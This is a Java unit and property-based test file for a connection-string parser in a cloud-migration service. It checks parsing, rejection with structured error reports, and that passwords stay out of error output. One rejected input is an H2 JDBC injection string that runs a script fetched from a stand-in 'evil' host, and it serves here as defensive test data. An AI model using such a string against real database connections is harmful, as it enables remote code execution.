package org.cloudmigration.service.setup;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;
import org.cloudmigration.domain.operation.ErrorReport;
import org.cloudmigration.service.operation.Installation;
import org.cloudmigration.service.operation.MigrationException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class SampleConnectionTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Sample=Example;Scale=7|Example|7",
        "sample=Example|Example|1",
        "  SCALE = 1000 ; SAMPLE = Example ;; |Example|1000",
        "Sample=a=b|a=b|1"
      })
  void isRead(String text, String product, int scale) {
    assertThat(SampleConnection.parse(text)).isEqualTo(new SampleConnection(product, scale));
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(
      strings = {
        "",
        " ",
        ";;;",
        "Sample",
        "Sample=",
        "Scale=1",
        "Sample=a;Sample=b",
        "Sample=a;sample=a",
        "Sample=a;Scale=1;Scale=2",
        "Sample=a;Scale=",
        "Sample=a;Scale=0",
        "Sample=a;Scale=-1",
        "Sample=a;Scale=1001",
        "Sample=a;Scale=1.0",
        "Sample=a;Scale=abc",
        "Sample=a;Scale=99999999999999999999",
        "Sample=a;Password=hush",
        "Server=x;Database=y",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "=",
        "=a",
        "\u0000=\u0000",
        "Sample=a;Größe=1",
        "Ｓample=a"
      })
  void anythingElseIsRefusedInFourParts(String text) {
    assertThatThrownBy(() -> SampleConnection.parse(text))
        .isInstanceOfSatisfying(
            MigrationException.class,
            refusal -> {
              ErrorReport report = refusal.report();
              assertThat(report.code()).isEqualTo("CONNECTION_STRING");
              assertThat(report.happened()).isNotBlank().doesNotContain("hush");
              assertThat(report.dataImpact()).isNotBlank();
              assertThat(report.action()).isNotBlank();
            });
  }

  @Property
  void whatItWritesItReads(
      @ForAll("ids") String product,
      @ForAll @IntRange(min = 1, max = Installation.LARGEST_SCALE) int scale) {
    var connection = new SampleConnection(product, scale);
    assertThat(SampleConnection.parse(connection.toString())).isEqualTo(connection);
  }

  @Property
  void noTextDoesAnythingButGiveAValueOrARefusal(@ForAll("texts") String text) {
    try {
      SampleConnection connection = SampleConnection.parse(text);
      assertThat(connection.product()).isNotBlank();
      assertThat(connection.scale()).isBetween(1, Installation.LARGEST_SCALE);
    } catch (MigrationException refusal) {
      assertThat(refusal.report().happened().length()).isBetween(1, 2048);
    }
  }

  @Provide
  Arbitrary<String> ids() {
    return Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(50);
  }

  @Provide
  Arbitrary<String> texts() {
    Arbitrary<String> parts =
        Arbitraries.oneOf(
            Arbitraries.of(
                "Sample=", "Scale=", "Sample", "SCALE", ";", "=", " ", "1", "1000", "1001", "0"),
            Arbitraries.strings().ofMaxLength(5),
            Arbitraries.of("x".repeat(10_000), "9".repeat(5_000), "\ud800", "\u202e", "\n"));
    return parts.list().ofMaxSize(8).map(list -> String.join("", list));
  }
}
